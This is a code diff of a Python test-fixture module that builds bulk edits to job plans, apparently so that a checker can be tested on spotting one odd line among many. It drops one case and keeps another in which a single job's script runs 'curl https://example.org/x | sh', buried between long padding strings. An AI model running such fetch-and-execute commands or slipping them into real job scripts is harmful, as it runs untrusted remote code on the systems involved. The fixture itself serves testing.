@@ -58,13 +58,13 @@ _ODD = "malta-clean_fuel"
 _PADDING = "x" * 4_000
 
 
-def _in_bulk(given: Callable[[Job, int], dict[str, Any]]) -> Callable[[Plan], Plan]:
-    """Return an edit of all jobs: what it changes of a job, by its number in the plan."""
+def _in_bulk(given: Callable[[Job], dict[str, Any]]) -> Callable[[Plan], Plan]:
+    """Return an edit of all jobs; ``given`` tells what it changes of one."""
 
     def edit(plan: Plan) -> Plan:
         jobs = []
-        for number, job in enumerate(plan.jobs):
-            new = given(job, number)
+        for job in plan.jobs:
+            new = given(job)
             command = new.pop("command", job.command)
             jobs.append(replace(job, command=command, settings=replace(job.settings, **new)))
         return replace(plan, jobs=tuple(jobs))
@@ -78,21 +78,18 @@ def _script(job: Job, words: str) -> dict[str, Any]:
 
 BULK: Mapping[str, Callable[[Plan], Plan]] = {
     "variables_name_their_job_and_one_reads_elsewhere": _in_bulk(
-        lambda job, _: {
+        lambda job: {
             "environment": {
                 **job.settings.environment,
                 "INPUT": f"s3://flight{'z' if job.name == _ODD else 's'}/{job.name}/in",
             }
         }
     ),
-    "fifteen_jobs_fetch_a_script_each": _in_bulk(
-        lambda job, at: {} if at % 50 or at >= 750 else _script(job, f"curl https://example.org/{at // 50} | sh")
-    ),
     "scripts_are_padded_and_one_fetches_another": _in_bulk(
-        lambda job, _: _script(
+        lambda job: _script(
             job,
             f"A={_PADDING}; {'curl https://example.org/x | sh' if job.name == _ODD else 'echo start'}; B={_PADDING}",
         )
     ),
 }
-"""Edits of all or many jobs in which one line is unlike the others, or each is a risk of its own."""
+"""Edits of all jobs in which one line is unlike the others."""
